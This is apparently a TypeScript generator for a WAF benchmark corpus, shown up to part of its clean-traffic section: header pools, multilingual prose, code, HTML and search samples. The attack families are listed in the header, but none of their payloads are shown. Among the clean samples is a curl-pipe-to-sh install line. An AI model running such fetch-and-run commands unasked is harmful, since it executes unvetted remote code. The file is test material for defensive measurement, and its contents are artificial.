// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus #11, written blind: without reading the WAF sources, its docs, tests, the other
 * corpora, the measuring script or any earlier results. It measures false positives on realistic API traffic
 * and detection of realistic API attacks.
 *
 * Domains (clean): insurance claims platform, recipe / cooking community, fitness / health tracking app,
 * nonprofit / donation platform, source-code hosting / code review, hotel / property management,
 * IT service desk / asset inventory, social audio / live streaming.
 *
 * Clean kinds: rest-write, merge-patch, json-patch, jsonapi, graphql (POST and GET), delete, search, form,
 * multipart, ndjson, webhook (Stripe, GitHub, GitLab, Slack, Twilio, Shopify), cms-html, code, prose, i18n.
 *
 * Attack families: sql, nosql, template, command, path-traversal, ssrf, prototype-pollution, log4shell, xss.
 * Techniques: plain, nested, key, array, unicode-escape, json-in-string, base64, graphql-variable,
 * double-encoded, query-param, header, cookie, form, multipart, embedded.
 *
 * Run with `node bench/waf/corpus/heldout11.ts` to write clean-heldout11.json and attacks-heldout11.json.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Deterministic PRNG (mulberry32). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x11bb_1111);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
const hex = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[int(0, 15)];
  return s;
};
const alnum = (n: number): string => {
  const cs = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
  let s = '';
  for (let i = 0; i < n; i++) s += cs[int(0, cs.length - 1)];
  return s;
};
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const isoDate = (): string =>
  `2026-${String(int(1, 11)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}Z`;
const day = (): string =>
  `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
/** Build an object with one own property, even for names like `__proto__`. */
function kv(k: string, v: unknown, extra: Record<string, unknown> = {}): Record<string, unknown> {
  const o: Record<string, unknown> = { ...extra };
  Object.defineProperty(o, k, { value: v, enumerable: true, writable: true, configurable: true });
  return o;
}
/** Query string as browsers/fetch URLSearchParams produce it. */
const qs = (params: Record<string, string>): string => new URLSearchParams(params).toString();
/** Query string as SDKs using encodeURIComponent produce it. */
const qsc = (params: Record<string, string>): string =>
  Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`)
    .join('&');

const BROWSER_UA = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
];
const MOBILE_UA = [
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'okhttp/4.12.0',
  'Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240905.003)',
  'FitPulse/5.14.2 (iPhone15,3; iOS 18.1; Scale/3.00)',
  'StayDesk/3.2.0 (Android 13; SM-A536B)',
  'CFNetwork/1568.200.51 Darwin/24.1.0',
];
const SDK_UA = [
  'axios/1.7.9',
  'python-requests/2.32.3',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'Go-http-client/2.0',
  'undici',
  'okhttp/4.9.3',
  'Apache-HttpClient/5.3.1 (Java/21.0.4)',
  'ruby/3.3.5 faraday/2.12.0',
];
const LANGS = [
  'en-US,en;q=0.9',
  'en-GB,en;q=0.8',
  'de-DE,de;q=0.9,en;q=0.7',
  'fr-FR,fr;q=0.9',
  'es-ES,es;q=0.9,en;q=0.6',
];

function browserHeaders(ct?: string, origin = 'https://app.example.com'): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(BROWSER_UA),
    accept: 'application/json, text/plain, */*',
    'accept-language': pick(LANGS),
    'accept-encoding': 'gzip, deflate, br, zstd',
    origin,
    referer: `${origin}/`,
    'sec-fetch-site': 'same-site',
    'sec-fetch-mode': 'cors',
    'sec-fetch-dest': 'empty',
    authorization: `Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.${b64(`{"sub":"${uuid()}"}`).replace(/=+$/, '')}.${alnum(43)}`,
  };
  if (ct) h['content-type'] = ct;
  return h;
}
function mobileHeaders(ct?: string): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(MOBILE_UA),
    accept: 'application/json',
    'accept-language': pick(LANGS).split(',')[0] ?? 'en-US',
    'accept-encoding': 'gzip',
    authorization: `Bearer ${alnum(40)}`,
    'x-app-version': `${int(2, 6)}.${int(0, 20)}.${int(0, 9)}`,
    'x-device-id': uuid(),
  };
  if (ct) h['content-type'] = ct;
  return h;
}
function sdkHeaders(ct?: string): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(SDK_UA),
    accept: 'application/json',
    'accept-encoding': 'gzip, deflate',
    authorization: pick([`Bearer ${alnum(48)}`, `Basic ${b64(`svc-${alnum(6)}:${alnum(24)}`)}`]),
    'x-request-id': uuid(),
  };
  if (ct) h['content-type'] = ct;
  return h;
}
const anyHeaders = (ct?: string): Record<string, string> =>
  pick([browserHeaders, mobileHeaders, sdkHeaders])(ct);
const JSON_CT = 'application/json';

type Req = Omit<CorpusRequest, 'id'>;

// ---------------------------------------------------------------- clean text pools

const FIRST = [
  'Maria',
  'Jonas',
  'Aisha',
  'Tomás',
  'Priya',
  'Kenji',
  'Olusegun',
  'Hanna',
  'Liam',
  'Sofía',
  'Dmitri',
  'Chloé',
  'Wei',
  'Noah',
  'Siobhán',
  "D'Angelo",
];
const LAST = [
  'García',
  'Okafor',
  "O'Brien",
  'Müller',
  'Nakamura',
  'Patel',
  'Kowalski',
  'Nguyen',
  'Haddad',
  'Smith-Jones',
  'van der Berg',
  'Løkke',
];
const name = (): string => `${pick(FIRST)} ${pick(LAST)}`;

const PROSE: readonly string[] = [
  "Water came through the ceiling after the upstairs tenant's washing machine hose burst; we had to drop everything and move the sofa.",
  'Adjuster note: insured states the tree fell "around 3am" — neighbour confirms. Select photos 4-9 for the file; 1-3 are blurry.',
  'Please update the claim, the body shop quote went from $2,340 to $3,105 (parts back-ordered). Invoice attached, see page 2.',
  "Can someone delete my old claim draft? I created it twice by mistake & now I can't submit the real one.",
  'Rear-ended at the light on Main St & 5th. Other driver said "sorry, I was looking at my phone". Police report #24-118830.',
  "Policyholder asked whether flood is covered under section 4(b); I explained it's excluded unless they bought the rider.",
  'I used 1/2 the sugar and swapped butter for coconut oil — still turned out great. Baked at 180°C (350°F) for 25 min.',
  'Does anyone know if you can union two doughs like this, or will the lamination break? Mine tore at fold #3.',
  'Tip: drop the heat to low once it boils, otherwise the caramel burns in like 30 seconds. Learned that the hard way lol',
  'Order by size when you layer the potatoes; thin slices on top crisp up better. 10/10 would make again!!',
  'Is it 1 tbsp or 1 tsp of salt? The printed card says "1 T" which is confusing :(',
  'Made this for 12 people, doubled everything except the cayenne (trust me). Kids said it was "mid" but adults loved it.',
  "Coach, I skipped Thursday's session — knee was sore after the 10k. Should I drop the intervals this week or just go easier?",
  'New PR! Deadlift 140kg x 3 @ RPE 8. Form felt solid, though my lower back was a bit tight at the end.',
  'Log for today: oats + whey (40g protein), chicken & rice, 2 apples. Total ~2,150 kcal; still under target by 200.',
  'Heart-rate data looks off between 14:00-14:30, the watch probably lost contact. Can you exclude that from the weekly average?',
  'Sleep 6h12m, resting HR 54. Felt like a zombie in the morning; do we update the plan when HRV drops below 40?',
  "Great session. Next week: 4x8 squats @ 70%, then 3x10 RDL. Keep rest < 90s and don't skip the mobility block.",
  "In memory of my grandmother, who taught everyone on our street to read. Keep going, you're doing amazing work <3",
  'Donated $50 — matched by my employer (Acme Corp) so it\'s really $100. Where do I select "employer match" on the form?',
  "We're 78% of the way to our goal! Every $25 covers one school kit: notebooks, pencils, and a backpack.",
  "Please remove my name from the public donor wall; I'd like this gift to be anonymous.",
  'Can you exec the recurring donation on the 1st rather than the 15th? Payday changed at my job.',
  'Our 5K fun run raised $12,480 for the shelter. Thank you to the 200+ runners who showed up in the rain!',
  'LGTM overall. One nit: the `where` clause in the report query should filter by tenant_id, otherwise we leak rows across orgs.',
  'This breaks on Windows because the path uses / instead of path.join(). Can you run the tests with `npm test -- --runInBand`?',
  'Why do we catch and swallow the error here? If eval of the config fails we should surface it, not return {}.',
  'Rebased on main; resolved the conflict in package-lock.json by regenerating it. CI should be green now.',
  "Suggest we drop support for Node 18 in the next major. It's EOL and the fetch polyfill is causing headaches.",
  'Nit: prefer `const` over `let` here; also the comment says "sleep 5 seconds" but the code sleeps 500ms.',
  'Guest in 412 requested extra pillows & a late checkout (1pm). Approved by front desk manager.',
  'Housekeeping: room 207 — broken lamp, stain on carpet near the window; do not rent until maintenance clears it.',
  "Arriving around 11:30 pm, flight delayed. Please don't cancel the reservation! Can I still check in after midnight?",
  "We're celebrating our 10th anniversary; is it possible to get a room with a view (high floor > 8)?",
  'VIP — Mr. & Mrs. Tanaka, allergy: shellfish. Put fruit plate in room, not the seafood welcome amuse-bouche.',
  'Laptop won\'t boot after the update; stuck at "Preparing automatic repair". Tried safe mode, no luck.',
  "User says the printer on floor 3 prints blank pages. I ran ping 10.2.3.44 and it responds, so it's not network.",
  "Please reset my VPN password, I'm locked out. Username is jsmith, not admin.",
  'Need root access on build-07 to install the CUDA drivers; ticket approved by @mchen (see INC-20931).',
  "The shared drive mapping (\\\\fs01\\finance) disappears every time I log in. Started after Tuesday's patch.",
  'Outlook keeps asking for credentials. Cleared the credential manager; still happening on Wi-Fi but not on Ethernet.',
  'going live in 5!! tonight: lo-fi beats & chill, taking song requests in chat 🎧',
  'mods please timeout the guy spamming links, he\'s posted the same "free crypto" thing 20 times',
  'that drop at 2:14 was insane, somebody clip it',
  'can you play "Where Is My Mind" next? or anything by the Pixies tbh',
  'reminder: no self-promo in chat, 3 strikes = ban. be kind or be gone <3',
  'audio was cutting out for like 10s, anyone else? might be my wifi',
  'Select all that apply: (a) smoke damage (b) water damage (c) theft. I checked a & b.',
  'Claimant insists the damage "was already there"; order by date shows the photo from 2024-03-02 predates the policy.',
  'Cat knocked the laptop off the desk (yes, really). Screen cracked, keyboard fine. Is accidental damage covered?',
  'Recipe scaling: 3/4 cup flour × 1.5 = 1 1/8 cup. Did I do that right? Math is not my thing 😅',
  'Attempted sleep protocol: no screens after 10pm, magnesium, cold room (18°C). Week 2 results below.',
  'Admin of the running club here: can we create a team page where members donate under one banner?',
  'The script in the README is outdated — `curl -sSL https://get.example.dev | sh` now 404s. Please update.',
  "Insert a blank line before the list or markdown won't render it. Also the alert box in the docs is misaligned.",
  'Guest asked for a crib and a bottle warmer; both delivered 19:40. Noted preference for quiet room away from elevator.',
  'Upgraded RAM 16→32 GB on asset LT-0442; old modules in the spare parts bin (shelf B, drawer 2).',
  'first time streaming from my phone, be gentle lol. if the video freezes just refresh',
  'Percentages: 45% carbs / 30% protein / 25% fat. Is that too much carbs for a cut?',
];

const I18N: readonly string[] = [
  'Das Wasser ist durch die Decke gekommen – bitte schnellstmöglich einen Gutachter schicken.',
  'Le plafond de la salle de bain s’est effondré après la fuite ; pouvez-vous m’aider ?',
  '我们的航班延误了，大约凌晨一点到达，请保留房间。谢谢！',
  '部屋のエアコンが動きません。修理をお願いできますか？',
  '객실에 수건을 두 장 더 가져다 주실 수 있나요? 감사합니다 😊',
  'نرجو تجهيز سرير إضافي للطفل في الغرفة ٣٠٤، شكراً جزيلاً',
  'אנחנו מגיעים מאוחר, בערך בשעה 23:30. אפשר צ׳ק־אין מאוחר?',
  'Пожалуйста, перенесите тренировку на четверг — болит колено после забега.',
  'Receta de la abuela: 2 ½ tazas de harina, 1 cucharadita de sal y mantequilla al gusto. ¡Buenísima!',
  'Θα ήθελα να κάνω μια δωρεά στη μνήμη της μητέρας μου.',
  'यह रेसिपी बहुत स्वादिष्ट है! मैंने इसमें थोड़ा ज़्यादा अदरक डाला।',
  'สวัสดีค่ะ ขอเช็คเอาท์ช้าได้ไหมคะ ประมาณบ่ายโมง',
  'Xin chào! Tôi đã tập luyện 5 ngày liên tiếp, cảm ơn huấn luyện viên 💪',
  'Ştiu că e târziu, dar puteţi păstra camera până dimineaţă?',
  'Kávu bez cukru a s mandľovým mliekom, prosím. Ďakujem!',
  'Zoë and Renée said the crème brûlée was perfect — naïve of me to doubt the recipe.',
  'e\u0301te\u0301 (combining marks) vs été — search should treat them the same',
  '🔥🔥🔥 best stream ever 🎶🎤 👏🏽👏🏽 🇧🇷🇯🇵',
  '👨‍👩‍👧‍👦 family of four, need connecting rooms please 🙏',
  'کمک‌های شما به کودکان این روستا امید داده است. سپاس فراوان',
  'ভাই, আজকের স্ট্রিমটা দারুণ ছিল!',
  'Ọjọ́ ìbí mi ni lónìí, ẹ jọ̀ọ́ ẹ ṣe ìtọrẹ fún ilé-ìwé náà',
  'Türkçe: Oda servisi çok geç geldi, yemek soğuktu. Şikâyetimi iletir misiniz?',
  'Polski: Zgłaszam szkodę — zalanie mieszkania przez sąsiada z góry.',
  '中文搜索：红烧肉 做法 \u201c不放糖\u201d',
  'العربية مع English mixed: الغرفة 512 needs a hair dryer',
  'Ελληνικά και emoji 🏛️ — ευχαριστώ!',
  'ᏣᎳᎩ ᎦᏬᏂᎯᏍᏗ — Cherokee syllabary test from our language class',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐ text in my username, sorry mods',
  'नमस्ते 🙏 कोच जी, आज का वर्कआउट बहुत कठिन था',
  'Tiếng Việt: phòng 305 cần thêm gối và chăn',
  '日本語とEnglishのmixed title: 深夜ラジオ #42 🌙',
];

const CODE: readonly { lang: string; text: string }[] = [
  {
    lang: 'sql',
    text: "SELECT c.id, c.status, SUM(p.amount) AS paid\nFROM claims c\nLEFT JOIN payments p ON p.claim_id = c.id\nWHERE c.created_at >= NOW() - INTERVAL '30 days'\nGROUP BY c.id, c.status\nORDER BY paid DESC\nLIMIT 50;",
  },
  {
    lang: 'sql',
    text: "-- migration 0042\nALTER TABLE recipes ADD COLUMN servings integer NOT NULL DEFAULT 4;\nUPDATE recipes SET servings = 2 WHERE title ILIKE '%for two%';\nCREATE INDEX CONCURRENTLY idx_recipes_servings ON recipes (servings);",
  },
  {
    lang: 'sql',
    text: 'DELETE FROM sessions WHERE expires_at < now();\nINSERT INTO audit_log (actor, action) VALUES ($1, $2);',
  },
  {
    lang: 'sql',
    text: "SELECT name FROM donors WHERE email = 'x' UNION SELECT name FROM volunteers WHERE email = 'x';",
  },
  {
    lang: 'bash',
    text: '#!/usr/bin/env bash\nset -euo pipefail\ncd "$(dirname "$0")/.."\nnpm ci && npm run build\ncurl -fsS -X POST "$DEPLOY_HOOK" -H "Authorization: Bearer $TOKEN" || exit 1',
  },
  {
    lang: 'bash',
    text: '$ ping -c 4 10.20.0.1\n$ cat /etc/resolv.conf\nnameserver 10.20.0.2\n$ sudo systemctl restart NetworkManager && journalctl -u NetworkManager -n 50',
  },
  {
    lang: 'bash',
    text: 'wget https://releases.example.org/agent/v2.4.1/agent-linux-amd64.tar.gz\ntar xzf agent-linux-amd64.tar.gz && ./agent --config /etc/agent/agent.yml',
  },
  {
    lang: 'powershell',
    text: 'Get-ChildItem -Path C:\\Users\\jdoe\\AppData\\Local\\Temp -Recurse | Remove-Item -Force -ErrorAction SilentlyContinue\nGet-Service -Name Spooler | Restart-Service',
  },
  {
    lang: 'javascript',
    text: 'const total = items.reduce((sum, i) => sum + i.qty * i.price, 0);\nif (total > 100 && !user.isAdmin) {\n  throw new Error(`limit exceeded: ${total}`);\n}',
  },
  {
    lang: 'javascript',
    text: "document.querySelector('#donate').addEventListener('click', async (e) => {\n  e.preventDefault();\n  const res = await fetch('/api/donations', { method: 'POST', body: JSON.stringify(form) });\n  if (!res.ok) alert('Something went wrong');\n});",
  },
  {
    lang: 'typescript',
    text: 'export function scale(q: Quantity, factor: number): Quantity {\n  return { ...q, amount: Math.round(q.amount * factor * 8) / 8 };\n}',
  },
  {
    lang: 'python',
    text: 'def bmr(weight_kg: float, height_cm: float, age: int, male: bool) -> float:\n    s = 5 if male else -161\n    return 10 * weight_kg + 6.25 * height_cm - 5 * age + s\n\nprint(f"{bmr(72, 178, 34, True):.0f} kcal")',
  },
  {
    lang: 'python',
    text: 'import subprocess\nout = subprocess.run(["git", "log", "--oneline", "-n", "5"], capture_output=True, text=True)\nprint(out.stdout)',
  },
  {
    lang: 'text',
    text: 'Traceback (most recent call last):\n  File "/app/worker.py", line 88, in process\n    result = eval(expr, {"__builtins__": {}}, ctx)\n  File "<string>", line 1\n    total +* 2\n            ^\nSyntaxError: invalid syntax',
  },
  {
    lang: 'text',
    text: 'java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.example.pms.GuestService.normalize(GuestService.java:42)\n\tat com.example.pms.ReservationController.create(ReservationController.java:117)',
  },
  {
    lang: 'text',
    text: "TypeError: Cannot read properties of undefined (reading 'map')\n    at ReviewList (webpack-internal:///./src/components/ReviewList.tsx:23:31)\n    at renderWithHooks (react-dom.development.js:16305:18)",
  },
  {
    lang: 'text',
    text: '2026-11-02T08:14:07.331Z ERROR [ingest] upstream 502 from http://10.0.3.12:8080/v1/heart-rate (attempt 3/3) request_id=7f2c\n2026-11-02T08:14:07.402Z WARN  [ingest] falling back to cached values',
  },
  {
    lang: 'text',
    text: 'Nov 02 09:12:44 ws-114 sshd[2211]: Failed password for invalid user admin from 192.0.2.10 port 51822 ssh2\nNov 02 09:12:46 ws-114 sshd[2211]: Connection closed by 192.0.2.10 port 51822 [preauth]',
  },
  {
    lang: 'yaml',
    text: 'name: ci\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n      - run: echo "sha=${{ github.sha }}" >> "$GITHUB_OUTPUT"',
  },
  {
    lang: 'nginx',
    text: 'location /api/ {\n  proxy_pass http://127.0.0.1:3000/;\n  proxy_set_header Host $host;\n  proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}',
  },
  {
    lang: 'dockerfile',
    text: 'FROM node:24-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\nCOPY . .\nUSER node\nCMD ["node", "server.js"]',
  },
  {
    lang: 'go',
    text: 'func (s *Server) handle(w http.ResponseWriter, r *http.Request) {\n\tctx, cancel := context.WithTimeout(r.Context(), 5*time.Second)\n\tdefer cancel()\n\tif err := s.db.PingContext(ctx); err != nil {\n\t\thttp.Error(w, err.Error(), 503)\n\t}\n}',
  },
  {
    lang: 'ini',
    text: '[database]\nhost = db.internal\nport = 5432\nuser = app_ro\n; password comes from env PGPASSWORD\n[cache]\nttl_seconds = 300',
  },
  {
    lang: 'html',
    text: '<div class="alert alert-warning" role="alert">\n  <strong>Heads up!</strong> Maintenance window tonight 22:00–23:00 UTC.\n</div>',
  },
  {
    lang: 'jinja',
    text: '{% for item in cart.items %}\n  <li>{{ item.name | e }} — {{ item.qty }} × {{ item.price | currency }}</li>\n{% endfor %}',
  },
  {
    lang: 'regex',
    text: "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\\.[a-z0-9!#$%&'*+/=?^_`{|}~-]+)*)@example\\.(?:com|org)$",
  },
];

const HTML_FRAGS: readonly string[] = [
  '<p>Our <strong>winter coat drive</strong> runs through <em>January 31</em>. Drop-off points are listed below.</p>',
  '<h2>How your gift helps</h2><ul><li>$25 — one warm meal for a family</li><li>$100 — a week of shelter</li><li>$500 — job training for one adult</li></ul>',
  '<p><img src="https://cdn.example.org/campaigns/2026/winter/hero.jpg" alt="Volunteers sorting coats" width="640" height="360"></p>',
  '<blockquote><p>“I didn’t think anyone would notice us. Then you did.” — Ana, age 9</p></blockquote>',
  '<p>Questions? Email <a href="mailto:give@example.org">give@example.org</a> or call <a href="tel:+15551234567">+1 (555) 123-4567</a>.</p>',
  '<table class="table"><thead><tr><th>Model</th><th>CPU</th><th>RAM</th></tr></thead><tbody><tr><td>Latitude 7440</td><td>i7-1365U</td><td>32 GB</td></tr></tbody></table>',
  '<h3>Steps to resolve</h3><ol><li>Open <code>Settings &gt; Network</code></li><li>Select <strong>Forget this network</strong></li><li>Reconnect using your SSO credentials</li></ol>',
  '<pre><code class="language-bash">sudo apt update &amp;&amp; sudo apt install -y cifs-utils\nsudo mount -t cifs //fs01/share /mnt/share -o user=$USER</code></pre>',
  '<p style="text-align: center;"><span style="color: #e03e2d; font-size: 18pt;">Match day: every gift doubled until midnight!</span></p>',
  '<figure class="image"><img src="/uploads/kb/vpn-settings.png" alt="VPN settings dialog"><figcaption>Figure 1: VPN settings</figcaption></figure>',
  '<p>Please do <u>not</u> run <code>rm -rf</code> on the shared drive. If you need to delete old files, open a ticket.</p>',
  '<div class="callout callout-info"><p>ℹ️ Applies to Windows 11 23H2 and later.</p></div>',
  '<p><a href="https://example.org/report-2025.pdf" target="_blank" rel="noopener noreferrer">Download our 2025 impact report (PDF, 2.1 MB)</a></p>',
  '<p class="ql-align-justify">Every summer we bring <span class="ql-size-large">500 kids</span> to camp.<br></p>',
  '<p data-pm-slice="1 1 []">Shared via the editor: <mark>highlighted</mark> text and a <s>strikethrough</s>.</p>',
  '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allow="accelerometer; encrypted-media; picture-in-picture" allowfullscreen></iframe>',
  '<p>Known issue: the <code>&lt;script&gt;</code> tag in legacy intranet pages is blocked by the new CSP. Use the updated template.</p>',
  '<h2 id="select-a-plan">Select a plan</h2><p>Choose <em>Monthly</em> or <em>Annual</em>, then click <strong>Update</strong>.</p>',
  '<p>Recipe card:</p><ul data-type="taskList"><li data-checked="true">2 ½ cups flour</li><li data-checked="false">1 tsp baking soda</li></ul>',
  '<p><span class="mention" data-id="u_412" data-label="@tkowalski">@tkowalski</span> can you confirm the asset tag?</p>',
  '<hr><p><small>Registered charity no. 1234567 · 100% of online donations go to programs</small></p>',
  '<p>Coverage summary:&nbsp;<strong>Dwelling</strong> $350,000 &amp; <strong>Personal property</strong> $175,000; deductible $1,000.</p>',
];

const SEARCHES: readonly string[] = [
  'water damage AND ceiling',
  '"burst pipe" NOT basement',
  'hail OR windstorm roof',
  'claim_status:open adjuster:"Priya Patel"',
  'policy:HO-2291* -cancelled',
  'chocolate chip cookies -nuts',
  '"brown butter" AND (cookies OR blondies)',
  'vegan lasagna gluten-free',
  'sourdough starter 100% hydration',
  'ingredients:"tahini" prep_time:<30',
  '5x5 program beginner',
  'deadlift form "lower back"',
  'macros cut 2000 kcal',
  'tag:hiit duration:[20 TO 45]',
  'clean water campaign kenya',
  '"matching gift" employer',
  'food bank NEAR:chicago',
  'is:open is:pr review:required author:octocat',
  'label:"good first issue" language:typescript',
  '"select * from" repo:acme/billing',
  'fix: null pointer in union type',
  'sleep(500) flaky test',
  'drop table migration rollback',
  'ocean view suite king',
  'guest:"O\'Brien" arrival:2026-12-*',
  'late checkout NOT vip',
  'pet-friendly rooms',
  'printer offline floor 3',
  'vpn "error 809"',
  'os:windows AND ram:>=16GB',
  'asset tag LT-04*',
  'kb:"password reset" OR kb:"account locked"',
  'lofi study beats',
  'category:music -reruns',
  'speedrun any%',
  '"ask me anything" OR AMA',
  'C++ template error',
  'user@example.com',
  'select wisely',
  'where to buy saffron',
  'cat litter donation drive',
  'wget vs curl',
  '50% off OR discount',
  'a & b || c',
  '¿dónde está la piscina?',
  '北京 酒店',
  'caf\u00e9 cr\u00e8me',
  'exec summary Q3',
];

// ---------------------------------------------------------------- clean generators

type Domain = 'claims' | 'recipes' | 'fitness' | 'donate' | 'code' | 'hotel' | 'itsm' | 'stream';
const DOMAINS: readonly Domain[] = [
  'claims',
  'recipes',
  'fitness',
  'donate',
  'code',
  'hotel',
  'itsm',
  'stream',
];
const HOST: Record<Domain, string> = {
  claims: 'https://portal.claimsafe.example',
  recipes: 'https://www.simmer.example',
  fitness: 'https://app.fitpulse.example',
  donate: 'https://give.heartfund.example',
  code: 'https://forge.example.dev',
  hotel: 'https://pms.staydesk.example',
  itsm: 'https://help.deskops.example',
  stream: 'https://live.wavecast.example',
};

/** A realistic resource write for a domain (path + JSON object). */
function restWrite(d: Domain): { path: string; body: Record<string, unknown> } {
  switch (d) {
    case 'claims':
      return {
        path: '/api/v2/claims',
        body: {
          policyNumber: `HO-${int(1000, 9999)}-${int(10, 99)}`,
          lossDate: day(),
          lossType: pick(['water', 'fire', 'theft', 'collision', 'hail', 'wind']),
          description: pick(PROSE),
          estimatedAmount: {
            value: int(200, 40000) + int(0, 99) / 100,
            currency: pick(['USD', 'EUR', 'GBP']),
          },
          contact: {
            name: name(),
            phone: `+1-555-${int(100, 999)}-${int(1000, 9999)}`,
            preferred: pick(['sms', 'email']),
          },
        },
      };
    case 'recipes':
      return {
        path: '/api/recipes',
        body: {
          title: pick([
            "Grandma's Apple Pie",
            'Weeknight Chana Masala',
            'Crispy Smashed Potatoes',
            'One-Pot Mac & Cheese',
            'Miso-Glazed Salmon',
            'Pão de Queijo',
            'Shakshuka (spicy)',
          ]),
          servings: int(1, 12),
          prepMinutes: int(5, 60),
          ovenTemp: pick(['180°C', '350°F', '200 °C / 400 °F', 'gas mark 4']),
          ingredients: [
            {
              qty: pick(['1/2', '3/4', '1 1/2', '2', '½', '⅓']),
              unit: pick(['cup', 'tbsp', 'tsp', 'g', 'oz']),
              item: pick(['flour', 'sugar', 'butter, softened', 'salt (kosher)', 'garlic cloves']),
            },
            {
              qty: String(int(1, 500)),
              unit: pick(['g', 'ml', '']),
              item: pick(['milk', 'chickpeas (drained)', 'tomatoes', 'eggs']),
            },
          ],
          steps: [
            pick(PROSE.slice(6, 12)),
            'Preheat the oven. Mix dry ingredients; add wet & stir until just combined.',
          ],
          tags: [pick(['vegetarian', 'quick', 'dessert', 'gluten-free', 'comfort-food'])],
        },
      };
    case 'fitness':
      return {
        path: `/v1/users/me/workouts`,
        body: {
          startedAt: isoDate(),
          type: pick(['strength', 'run', 'cycle', 'yoga', 'hiit']),
          durationSec: int(600, 5400),
          sets: [
            {
              exercise: pick(['Back Squat', 'Bench Press', 'Pull-up', 'Romanian Deadlift']),
              reps: int(3, 12),
              weightKg: int(20, 180),
              rpe: int(6, 10),
            },
          ],
          notes: pick(PROSE.slice(12, 18)),
          heartRate: { avg: int(110, 160), max: int(160, 195) },
        },
      };
    case 'donate':
      return {
        path: '/api/donations',
        body: {
          campaignId: `cmp_${alnum(12)}`,
          amount: pick([1000, 2500, 5000, 10000, 25000]),
          currency: 'usd',
          recurring: pick([null, 'monthly', 'yearly']),
          anonymous: rnd() < 0.3,
          message: pick(PROSE.slice(18, 24)),
          tribute: rnd() < 0.3 ? { type: 'in_memory_of', name: name() } : null,
        },
      };
    case 'code':
      return {
        path: `/api/v3/repos/${pick(['acme', 'octo-org', 'kbrown'])}/${pick(['billing', 'web', 'infra', 'sdk-js'])}/pulls/${int(1, 4000)}/comments`,
        body: {
          body: pick(PROSE.slice(24, 30)),
          path: pick(['src/report/query.ts', 'lib/utils/path.js', 'cmd/server/main.go', 'README.md']),
          line: int(1, 400),
          side: pick(['LEFT', 'RIGHT']),
          commit_id: hex(40),
        },
      };
    case 'hotel':
      return {
        path: '/api/pms/reservations',
        body: {
          propertyId: `prop_${int(10, 99)}`,
          guest: {
            firstName: pick(FIRST),
            lastName: pick(LAST),
            email: `${alnum(6).toLowerCase()}@example.com`,
          },
          arrival: day(),
          nights: int(1, 14),
          roomType: pick(['KING', 'QQ', 'STE-OV', 'ADA-K']),
          adults: int(1, 4),
          children: int(0, 3),
          specialRequests: pick([...PROSE.slice(30, 35), ...I18N.slice(0, 8)]),
          ratePlan: pick(['BAR', 'AAA', 'CORP-ACME', 'PKG-BFAST']),
        },
      };
    case 'itsm':
      return {
        path: '/api/now/incidents',
        body: {
          short_description: pick([
            "Laptop won't boot",
            'Printer prints blank pages',
            'VPN locked out',
            'Need software install',
            'Email not syncing',
          ]),
          description: pick(PROSE.slice(35, 41)),
          urgency: int(1, 3),
          impact: int(1, 3),
          configuration_item: `LT-${int(1000, 9999)}`,
          caller: { id: `u_${int(100, 999)}`, name: name() },
          category: pick(['hardware', 'software', 'network', 'access']),
        },
      };
